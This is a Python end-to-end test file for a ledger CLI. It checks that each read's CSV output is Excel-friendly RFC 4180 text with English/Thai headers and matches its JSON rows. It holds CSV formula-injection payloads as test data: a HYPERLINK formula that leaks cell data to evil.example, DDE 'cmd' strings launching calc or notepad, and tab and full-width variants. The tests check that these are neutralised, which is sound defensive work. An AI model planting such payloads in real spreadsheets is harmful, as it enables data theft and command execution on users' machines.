"""``--csv`` on every read (issue 19, point 4), as a user runs it: the real ``ledger`` over
demo stores. Each read's CSV starts with the UTF-8 BOM Excel needs for Thai, is RFC 4180
with CRLF line ends (written back by Python's ``excel`` dialect it is the same text), has one
``English / ไทย`` header row, and holds the rows of the same read's ``--json``, key values
equal. Text a spreadsheet would run as a formula is neutralised; ``--csv`` beside ``--json``
is a usage error."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import warnings
from collections.abc import Iterator
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import click
import pytest

from commands.wiring import build_context
from ledger.errors import NotFound, exit_code_for
from ledger.persistence.settings import Settings
from tests.builders import at, fy2557_signed, request_change, run, sar
from tests.e2e.csv_cases import CASES, NO_STORE, SORTED

LEDGER = str(Path(sys.executable).parent / "ledger")
BOM = b"\xef\xbb\xbf"
FORMULA_START = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
ISO_TIME = re.compile(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}")
# Free text a unit could enter, each a formula to a spreadsheet.
HOSTILE = {
    "G1": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "G2": "+cmd|' /C calc'!A0",
    "P1": "-2+3+cmd|' /C notepad'!A0",
    "P2": "@SUM(1+1)*cmd|' /C calc'!A0",
}
HOSTILE_UNIT = "=1+1"
HOSTILE_REASONS = ("\t=1+1 after a tab", "\uff1d1+1 full-width")


def ledger(*args: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [LEDGER, *args],
        capture_output=True,
        timeout=120,
        env={**os.environ, "COLUMNS": "80"},
        check=False,
    )


@pytest.fixture(scope="module")
def stores(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The Andaman demo (joint KPIs, cascades, change requests), the Loei demo (the
    governor's rounds), and a signed agreement with hostile titles, unit name and
    justifications and two open change requests."""
    folder = tmp_path_factory.mktemp("csv-reads")
    made = {}
    for scenario in ("andaman", "loei"):
        db = folder / f"{scenario}.sqlite"
        witness = str(folder / f"{scenario}-witness")
        done = ledger("demo", "--scenario", scenario, "--db", str(db), "--witness-dir", witness)
        assert done.returncode == 0, done.stderr.decode()
        made[scenario] = db
    made["hostile"] = _hostile_store(folder / "hostile.sqlite")
    return made


def _hostile_store(db: Path) -> Path:
    ctx = build_context(Settings.from_environment(str(db), access="create"))
    for command in fy2557_signed("TH-81"):
        if command["type"] == "propose_kpi" and command["kpi_id"] in HOSTILE:
            command["title_en"] = HOSTILE[command["kpi_id"]]
        if command["type"] == "register_unit":
            command["name_en"] = HOSTILE_UNIT
        run(ctx, command)
    run(ctx, sar("TH-81/2557", "6m", {"P1": "78", "P2": "81"}, effective_at=at("2014-04-20")))
    for number, (kpi_id, reason) in enumerate(zip(("P1", "P2"), HOSTILE_REASONS, strict=True)):
        harder = {"thresholds": ["72", "77", "82", "87", "92"]}
        run(
            ctx,
            request_change(
                "TH-81/2557",
                f"CR-{number + 1}",
                kpi_id,
                "2014-04-28",
                proposal=harder,
                justification=reason,
            ),
        )
    ctx.app.close()
    return db


def csv_rows(result: subprocess.CompletedProcess[bytes]) -> list[dict[str, str]]:
    """The rows of a read's CSV keyed by each column's English name, after checking the
    bytes are what Excel and RFC 4180 want."""
    assert result.returncode == 0, result.stderr.decode()
    out = result.stdout
    assert out.startswith(BOM)
    text = out[len(BOM) :].decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    again = io.StringIO(newline="")
    csv.writer(again, dialect="excel").writerows(rows)
    assert again.getvalue() == text  # minimal RFC 4180 quoting, every line ended by CRLF
    header, *body = rows
    names = [cell.split(" / ", 1) for cell in header]
    assert all(len(name) == 2 and name[0] and name[1] for name in names), header
    assert all(re.search("[\u0e00-\u0e7f]", name[1]) for name in names), header  # Thai
    assert all(len(row) == len(header) for row in body)
    return [dict(zip((n[0] for n in names), row, strict=True)) for row in body]


def norm(value: Any, column: str = "") -> Any:
    """A value as both outputs mean it: a number as a Decimal, a time as an aware
    datetime, a flag as a bool, nothing as None; a CSV cell without the quote that kept a
    spreadsheet from reading it as a formula; a part by its English name."""
    if value is None or value == "":
        return None
    if isinstance(value, bool) or value in ("TRUE", "FALSE"):
        return value in (True, "TRUE")
    if isinstance(value, int | float):
        return Decimal(str(value))
    text = str(value)
    if column == "Part":
        return text.split(" / ")[0]
    if text.startswith("'") and text[1:2] in FORMULA_START:
        text = text[1:]
    if NUMBER.fullmatch(text):
        return Decimal(text)
    if ISO_TIME.match(text):
        return datetime.fromisoformat(text)
    return text


def _with_store(case: str, stores: dict[str, Path]) -> tuple[str, ...]:
    store, args, _, _ = CASES[case]
    return args if case in NO_STORE else (*args, "--db", str(stores[store]))


@pytest.mark.parametrize("case", CASES)
def test_a_reads_csv_holds_the_rows_of_its_json(case: str, stores: dict[str, Path]) -> None:
    _, _, columns, expected = CASES[case]
    args = _with_store(case, stores)
    rows = csv_rows(ledger(*args, "--csv"))
    shown = ledger(*args, "--json")
    assert shown.returncode == 0, shown.stderr.decode()
    wanted = [tuple(map(norm, row)) for row in expected(json.loads(shown.stdout))]
    found = [tuple(norm(row[c], c) for c in columns) for row in rows]
    assert (sorted(found, key=repr) if case in SORTED else found) == wanted
    assert wanted, "each case reads something"


def _reads_with_json() -> Iterator[tuple[str, ...]]:
    """Every command of the CLI that takes --json, as the words that run it."""
    from commands.cli.main import cli

    ctx = click.Context(cli)

    def walk(group: click.Group, words: tuple[str, ...]) -> Iterator[tuple[str, ...]]:
        for name in group.list_commands(ctx):
            command = group.get_command(ctx, name)
            if isinstance(command, click.Group):
                yield from walk(command, (*words, name))
            elif command is not None and any("--json" in p.opts for p in command.params):
                yield (*words, name)

    # Loading every command imports the web app (for `serve`): its import-time warnings
    # are the web tests' business, not this walk's.
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        yield from list(walk(cli, ()))


def test_every_read_that_takes_json_takes_csv_and_is_tested_here() -> None:
    from commands.cli.main import cli

    ctx = click.Context(cli)
    # `ledger demo` records a year (its scores are `ledger scores --csv` afterwards);
    # `verify` and `verify-export` come to a verdict, whose --json is for scripts, not a
    # table of the ledger's data to open in a spreadsheet.
    checks = {("demo",), ("verify",), ("verify-export",)}
    reads = [words for words in _reads_with_json() if words not in checks]
    assert len(reads) >= 22
    for words in reads:
        command: Any = cli
        for word in words:
            command = command.get_command(ctx, word)
        assert any("--csv" in p.opts for p in command.params), words
    tested = {args[: len(words)] for _, args, _, _ in CASES.values() for words in reads}
    assert set(reads) <= tested


@pytest.mark.parametrize("order", [("--csv", "--json"), ("--json", "--csv")])
def test_csv_beside_json_is_a_usage_error_naming_the_rule(
    order: tuple[str, str], stores: dict[str, Path]
) -> None:
    refused = ledger("scores", "TH-81/2557", "--db", str(stores["andaman"]), *order)
    assert refused.returncode == 2
    assert refused.stdout == b""
    said = refused.stderr.decode()
    assert "--csv and --json cannot be given together" in said
    assert "rule: one output format at a time: a table, --json or --csv" in said


def test_an_unknown_agreement_writes_no_csv_at_all(stores: dict[str, Path]) -> None:
    refused = ledger("scores", "TH-99/2557", "--db", str(stores["andaman"]), "--csv")
    assert refused.returncode == exit_code_for(NotFound("any"))
    assert refused.stdout == b""


def test_numbers_keep_their_places_and_a_negative_one_stays_a_number(
    stores: dict[str, Path],
) -> None:
    db = str(stores["andaman"])
    scores = csv_rows(ledger("scores", "TH-81/2557", "--round", "12m", "--db", db, "--csv"))
    for column in ("Score", "Weighted score"):
        shown = [row[column] for row in scores if row[column]]  # a monitored KPI has none
        assert len(shown) >= 10
        assert all(re.fullmatch(r"\d+\.\d{4}", cell) for cell in shown), shown
    gaps = [row["Gap"] for row in csv_rows(ledger("warnings", "TH-81/2557", "--db", db, "--csv"))]
    assert any(gap.startswith("-") for gap in gaps)  # off track: a negative number, unquoted


HOSTILE_READS = [
    ("show", "TH-81/2557"),
    ("scores", "TH-81/2557"),
    ("history", "TH-81/2557"),
    ("as-of", "TH-81/2557", "2099-01-01"),
    ("audit", "TH-81/2557"),
    ("requests",),
    ("warnings", "--all"),
    ("what-if", "TH-81/2557#CR-2"),
]


@pytest.mark.parametrize("read", HOSTILE_READS, ids=" ".join)
def test_no_cell_a_spreadsheet_would_run_as_a_formula(
    read: tuple[str, ...], stores: dict[str, Path]
) -> None:
    rows = csv_rows(ledger(*read, "--db", str(stores["hostile"]), "--csv"))
    assert rows
    for row in rows:
        for column, cell in row.items():
            if cell[:1] in FORMULA_START:
                assert NUMBER.fullmatch(cell), (column, cell)


def test_hostile_text_is_kept_whole_behind_a_single_quote(stores: dict[str, Path]) -> None:
    db = str(stores["hostile"])
    kpis = {row["KPI"]: row for row in csv_rows(ledger("show", "TH-81/2557", "--db", db, "--csv"))}
    for kpi_id, title in HOSTILE.items():
        assert kpis[kpi_id]["Title, English"] == "'" + title
    assert {row["Unit name, English"] for row in kpis.values()} == {"'" + HOSTILE_UNIT}
    reasons = [row["Justification"] for row in csv_rows(ledger("requests", "--db", db, "--csv"))]
    assert reasons == ["'" + reason for reason in HOSTILE_REASONS]
